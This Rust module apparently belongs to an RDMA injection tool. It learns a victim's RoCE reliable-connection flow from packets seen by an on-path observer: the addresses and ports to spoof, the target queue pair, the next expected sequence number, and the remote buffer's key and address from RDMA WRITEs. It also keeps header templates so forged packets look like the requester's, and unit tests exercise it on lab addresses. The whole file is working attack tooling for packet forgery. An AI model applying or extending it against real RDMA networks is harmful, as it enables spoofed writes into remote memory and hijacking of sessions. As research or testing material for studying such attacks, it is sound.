//! Learning a victim's RC request flow from the packets an on-path observer sees.
//!
//! Everything a forgery needs is in the clear on the wire: the responder's QPN (every packet
//! to it carries it in the BTH), the requester's PSN, the addresses and UDP source port to
//! spoof, and — from any RDMA WRITE — the rkey and virtual address of the responder's buffer.
//!
//! The packets one endpoint sends to the other hold two independent PSN sequences: its own
//! requests (SEND, RDMA WRITE) numbered from its send PSN, and its ACKs of the peer's
//! requests, which echo the *peer's* PSNs. Both carry the same destination QPN. Only the
//! requests say which PSN the responder expects next, so only SEND* and RDMA WRITE* opcodes
//! advance the learned PSN; ACKs and other responses are counted and otherwise ignored.
//! (RDMA READ requests reserve one PSN per response packet, which depends on the path MTU
//! that the wire does not show; atomics are not used by this project. Neither advances the
//! PSN here: [`Verdict::Unfollowed`] says when one was seen.)
//!
//! Retransmissions do not move the PSN back: a request PSN only replaces the last one if it is
//! ahead of it (modulo 2^24). A message of several packets (First, Middle…, Last) is
//! [`open`](Flow::message_open) until its last packet: a SEND Only forged in the middle of
//! one would be an opcode sequence error, so [`FlowLearner`] callers wait for it to close.

use std::net::IpAddr;

use roce::psn;
use roce::{ExtHeaders, MacAddr, Operation, Packet, PacketBuilder, Reth, Transport};
use serde::Serialize;

/// The rkey and virtual address of the responder's buffer, from an RDMA WRITE's RETH.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
pub struct WriteTarget {
    /// The remote key the requester used.
    pub rkey: u32,
    /// The virtual address the WRITE started at.
    pub va: u64,
    /// The WRITE's length (the whole message, not one packet).
    pub dma_len: u32,
}

impl From<Reth> for WriteTarget {
    fn from(r: Reth) -> WriteTarget {
        WriteTarget {
            rkey: r.rkey,
            va: r.va,
            dma_len: r.dma_len,
        }
    }
}

/// One learned RC request flow: a requester's packets to one responder QP.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Flow {
    /// The requester's MAC (the frame source to spoof).
    pub src_mac: MacAddr,
    /// The next hop's MAC towards the responder (the frame destination).
    pub dst_mac: MacAddr,
    /// The requester's address (the IP source to spoof).
    pub src_ip: IpAddr,
    /// The responder's address.
    pub dst_ip: IpAddr,
    /// The requester's UDP source port (the latest seen).
    pub src_port: u16,
    /// The responder's QP number.
    pub dst_qpn: u32,
    /// The PSN of the most advanced request packet seen (a multi-packet message's last).
    pub last_psn: u32,
    /// The PSN the responder expects next: `last_psn + 1` modulo 2^24.
    pub next_psn: u32,
    /// Request packets of this flow seen (retransmissions included).
    pub requests: u64,
    /// Responses (ACKs of the responder's own requests) seen in this direction.
    pub responses: u64,
    /// True while a multi-packet message has not sent its last packet.
    pub message_open: bool,
    /// The latest RDMA WRITE's target, if any WRITE was seen.
    pub write: Option<WriteTarget>,
    /// The last request's headers, payload and extension headers removed: forged packets copy
    /// its IP fields (DSCP, ECN, TTL, identification) so they look like the requester's.
    #[serde(skip)]
    pub template: PacketBuilder,
}

/// What [`FlowLearner::observe`] made of a packet.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// A SEND or RDMA WRITE packet of the learned flow (`advanced`: its PSN became the last).
    Request {
        /// False for a retransmission or an older packet.
        advanced: bool,
    },
    /// An ACK or other response in the learned flow's direction: the other QP's sequence.
    Response,
    /// A request of the learned flow that does not take exactly one PSN (READ, atomic, …).
    Unfollowed,
    /// A packet of another flow, towards another address, or not RC.
    Other,
    /// A packet whose ICRC does not match: never learned from (it would not be accepted).
    BadIcrc,
}

/// The request flow to learn: towards `dst` if given, else the first request flow seen.
///
/// ```
/// use rdma_inject::learn::{FlowLearner, Verdict};
/// use roce::{Opcode, PacketBuilder};
///
/// let frame = PacketBuilder::new(Opcode::RC_SEND_ONLY)
///     .ipv4([10, 77, 0, 2].into(), [10, 77, 0, 1].into())
///     .dest_qp(17)
///     .psn(0xff_ffff)
///     .payload(*b"hi")
///     .frame()?;
/// let mut learner = FlowLearner::new(Some([10, 77, 0, 1].into()));
/// let v = learner.observe(&roce::decode_ethernet(&frame)?);
/// assert_eq!(v, Verdict::Request { advanced: true });
/// let flow = learner.flow().expect("learned");
/// assert_eq!((flow.dst_qpn, flow.last_psn, flow.next_psn), (17, 0xff_ffff, 0));
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Clone, Debug, Default)]
pub struct FlowLearner {
    dst: Option<IpAddr>,
    flow: Option<Flow>,
}

/// True for the operations that take exactly one PSN each and that this tool follows.
fn advances_psn(op: Operation) -> bool {
    use Operation::*;
    matches!(
        op,
        SendFirst
            | SendMiddle
            | SendLast
            | SendLastImm
            | SendOnly
            | SendOnlyImm
            | SendLastInvalidate
            | SendOnlyInvalidate
            | WriteFirst
            | WriteMiddle
            | WriteLast
            | WriteLastImm
            | WriteOnly
            | WriteOnlyImm
    )
}

/// True for the first and middle packets of a multi-packet message.
fn opens_message(op: Operation) -> bool {
    use Operation::*;
    matches!(op, SendFirst | SendMiddle | WriteFirst | WriteMiddle)
}

impl FlowLearner {
    /// A learner for the flow towards `dst` (`None`: the first request flow seen).
    pub fn new(dst: Option<IpAddr>) -> FlowLearner {
        FlowLearner { dst, flow: None }
    }

    /// The flow learned so far.
    pub fn flow(&self) -> Option<&Flow> {
        self.flow.as_ref()
    }

    /// Feeds one decoded packet (a whole frame: the MACs are learned too).
    pub fn observe(&mut self, p: &Packet<'_>) -> Verdict {
        let (Some(eth), Some(src), Some(dst)) = (p.ethernet, p.src(), p.dst()) else {
            return Verdict::Other;
        };
        let op = p.opcode();
        if op.transport() != Transport::Rc || self.dst.is_some_and(|d| d != dst.ip()) {
            return Verdict::Other;
        }
        if !p.icrc_ok {
            return Verdict::BadIcrc;
        }
        let operation = op.operation();
        let same_flow =
            |f: &Flow| f.src_ip == src.ip() && f.dst_ip == dst.ip() && f.dst_qpn == p.bth.dest_qp;
        let flow = match self.flow.as_mut() {
            Some(f) if same_flow(f) => f,
            Some(_) => return Verdict::Other,
            None if advances_psn(operation) => {
                self.flow = Some(Flow {
                    src_mac: eth.src,
                    dst_mac: eth.dst,
                    src_ip: src.ip(),
                    dst_ip: dst.ip(),
                    src_port: src.port(),
                    dst_qpn: p.bth.dest_qp,
                    last_psn: p.bth.psn,
                    next_psn: psn::next(p.bth.psn),
                    requests: 1,
                    responses: 0,
                    message_open: opens_message(operation),
                    write: p.ext.reth.map(WriteTarget::from),
                    template: template(p),
                });
                return Verdict::Request { advanced: true };
            }
            // An ACK or READ alone does not say where the requester's PSN is.
            None => return Verdict::Other,
        };
        if operation.is_response() {
            flow.responses += 1;
            return Verdict::Response;
        }
        if !advances_psn(operation) {
            return Verdict::Unfollowed;
        }
        flow.requests += 1;
        if let Some(reth) = p.ext.reth {
            flow.write = Some(reth.into());
        }
        if !psn::ahead(p.bth.psn, flow.last_psn) {
            return Verdict::Request { advanced: false };
        }
        flow.last_psn = p.bth.psn;
        flow.next_psn = psn::next(p.bth.psn);
        flow.message_open = opens_message(operation);
        (flow.src_mac, flow.dst_mac, flow.src_port) = (eth.src, eth.dst, src.port());
        flow.template = template(p);
        Verdict::Request { advanced: true }
    }
}

/// A packet's headers without its payload and extension headers.
fn template(p: &Packet<'_>) -> PacketBuilder {
    PacketBuilder::from_packet(p)
        .ext(ExtHeaders::default())
        .payload(Vec::new())
}

/// The flow learned from one RC SEND Only from 10.77.0.2 to QP 17 of 10.77.0.1, PSN 0x41: a
/// fixture for the unit tests of what takes a learned flow.
#[cfg(test)]
pub(crate) fn flow_of_one_send() -> Flow {
    let send = PacketBuilder::new(roce::Opcode::RC_SEND_ONLY)
        .ipv4([10, 77, 0, 2].into(), [10, 77, 0, 1].into())
        .dest_qp(17)
        .psn(0x41)
        .payload(*b"x")
        .frame()
        .unwrap();
    let mut l = FlowLearner::new(None);
    l.observe(&roce::decode_ethernet(&send).unwrap());
    l.flow().unwrap().clone()
}

#[cfg(test)]
mod tests {
    use super::*;
    use roce::{Aeth, AethSyndrome, ImmDt, Opcode};

    const A: [u8; 4] = [10, 77, 0, 1];
    const B: [u8; 4] = [10, 77, 0, 2];

    fn pkt(op: Opcode, src: [u8; 4], dst: [u8; 4], qpn: u32, psn: u32) -> PacketBuilder {
        let b = PacketBuilder::new(op)
            .src_mac(MacAddr([2, 0, 0, 0, 0, src[3]]))
            .dst_mac(MacAddr([2, 0, 0, 0, 0, dst[3]]))
            .ipv4(src.into(), dst.into())
            .src_port(50_000)
            .dest_qp(qpn)
            .psn(psn);
        match op.operation() {
            Operation::Acknowledge => b.aeth(Aeth {
                syndrome: AethSyndrome::Ack { credits: 31 },
                msn: 1,
            }),
            Operation::WriteOnlyImm => b
                .reth(Reth {
                    va: 0x1000,
                    rkey: 0xabcd,
                    dma_len: 4,
                })
                .immdt(ImmDt(4))
                .payload(*b"data"),
            Operation::WriteFirst => b
                .reth(Reth {
                    va: 0x2000,
                    rkey: 0xbeef,
                    dma_len: 3000,
                })
                .payload(vec![0; 1024]),
            Operation::ReadRequest => b.reth(Reth {
                va: 0,
                rkey: 1,
                dma_len: 8,
            }),
            _ => b.payload(*b"msg!"),
        }
    }

    fn feed(l: &mut FlowLearner, b: PacketBuilder) -> Verdict {
        let frame = b.frame().expect("test packet builds");
        l.observe(&roce::decode_ethernet(&frame).expect("decodes"))
    }

    #[test]
    fn only_requests_advance_the_psn() {
        let mut l = FlowLearner::new(Some(A.into()));
        assert_eq!(
            feed(&mut l, pkt(Opcode::RC_SEND_ONLY, B, A, 17, 100)),
            Verdict::Request { advanced: true }
        );
        // The client's ACK of the server's token SEND: same QPN, the server's PSN sequence.
        assert_eq!(
            feed(&mut l, pkt(Opcode::RC_ACKNOWLEDGE, B, A, 17, 5_000_000)),
            Verdict::Response
        );
        let f = l.flow().unwrap();
        assert_eq!((f.last_psn, f.next_psn, f.responses), (100, 101, 1));
        assert_eq!(
            feed(&mut l, pkt(Opcode::RC_SEND_ONLY, B, A, 17, 101)),
            Verdict::Request { advanced: true }
        );
        // A retransmission does not move the PSN back.
        assert_eq!(
            feed(&mut l, pkt(Opcode::RC_SEND_ONLY, B, A, 17, 100)),
            Verdict::Request { advanced: false }
        );
        // A READ request reserves an MTU-dependent number of PSNs: not followed.
        assert_eq!(
            feed(&mut l, pkt(Opcode::RC_RDMA_READ_REQUEST, B, A, 17, 102)),
            Verdict::Unfollowed
        );
        let f = l.flow().unwrap();
        assert_eq!((f.last_psn, f.next_psn, f.requests), (101, 102, 3));
    }

    #[test]
    fn the_psn_wraps_at_two_to_the_24() {
        let mut l = FlowLearner::new(None);
        feed(&mut l, pkt(Opcode::RC_SEND_ONLY, B, A, 17, 0xff_fffe));
        feed(&mut l, pkt(Opcode::RC_SEND_ONLY, B, A, 17, 0xff_ffff));
        assert_eq!(l.flow().unwrap().next_psn, 0);
        assert_eq!(
            feed(&mut l, pkt(Opcode::RC_SEND_ONLY, B, A, 17, 0)),
            Verdict::Request { advanced: true }
        );
        let f = l.flow().unwrap();
        assert_eq!((f.last_psn, f.next_psn), (0, 1));
    }

    #[test]
    fn other_flows_and_directions_are_ignored() {
        let mut l = FlowLearner::new(Some(A.into()));
        // The server's requests to the client go the other way.
        assert_eq!(
            feed(&mut l, pkt(Opcode::RC_SEND_ONLY, A, B, 18, 7)),
            Verdict::Other
        );
        // An ACK alone does not start a flow.
        assert_eq!(
            feed(&mut l, pkt(Opcode::RC_ACKNOWLEDGE, B, A, 17, 7)),
            Verdict::Other
        );
        assert!(l.flow().is_none());
        feed(&mut l, pkt(Opcode::RC_SEND_ONLY, B, A, 17, 10));
        // Another QP of the same server is another flow: the first one learned stays.
        assert_eq!(
            feed(&mut l, pkt(Opcode::RC_SEND_ONLY, B, A, 19, 500)),
            Verdict::Other
        );
        // UD is not RC.
        let ud = PacketBuilder::new(Opcode::UD_SEND_ONLY)
            .ipv4(B.into(), A.into())
            .deth(roce::Deth { qkey: 1, src_qp: 2 })
            .dest_qp(17)
            .psn(11);
        assert_eq!(feed(&mut l, ud), Verdict::Other);
        assert_eq!(l.flow().unwrap().last_psn, 10);
        // Without a destination, the first request flow seen is the one.
        let mut any = FlowLearner::new(None);
        feed(&mut any, pkt(Opcode::RC_SEND_ONLY, A, B, 18, 7));
        assert_eq!(any.flow().unwrap().dst_ip, IpAddr::from(B));
    }

    #[test]
    fn a_bad_icrc_is_never_learned_from() {
        let mut frame = pkt(Opcode::RC_SEND_ONLY, B, A, 17, 10).frame().unwrap();
        let last = frame.len() - 1;
        frame[last] ^= 1;
        let mut l = FlowLearner::new(None);
        let p = roce::decode_ethernet(&frame).unwrap();
        assert_eq!(l.observe(&p), Verdict::BadIcrc);
        assert!(l.flow().is_none());
    }

    #[test]
    fn writes_give_the_target_and_multi_packet_messages_stay_open_until_their_last() {
        let mut l = FlowLearner::new(Some(A.into()));
        feed(&mut l, pkt(Opcode::RC_SEND_ONLY, B, A, 17, 1));
        assert_eq!(l.flow().unwrap().write, None);
        feed(&mut l, pkt(Opcode::RC_RDMA_WRITE_ONLY_IMM, B, A, 17, 2));
        let w = l.flow().unwrap().write.unwrap();
        assert_eq!((w.rkey, w.va, w.dma_len), (0xabcd, 0x1000, 4));
        let first = Opcode::new(0x06).unwrap(); // RC RDMA WRITE First
        feed(&mut l, pkt(first, B, A, 17, 3));
        let f = l.flow().unwrap();
        assert!(f.message_open);
        assert_eq!(f.write.map(|w| w.rkey), Some(0xbeef));
        let middle = Opcode::new(0x07).unwrap();
        let last_imm = Opcode::new(0x09).unwrap();
        feed(&mut l, pkt(middle, B, A, 17, 4).payload(vec![0; 1024]));
        assert!(l.flow().unwrap().message_open);
        feed(
            &mut l,
            pkt(last_imm, B, A, 17, 5)
                .immdt(ImmDt(3000))
                .payload(vec![0; 952]),
        );
        let f = l.flow().unwrap();
        // The last packet's PSN; the RETH of the First still names the buffer.
        assert_eq!((f.last_psn, f.next_psn, f.message_open), (5, 6, false));
        assert_eq!(f.write.map(|w| w.va), Some(0x2000));
    }
}
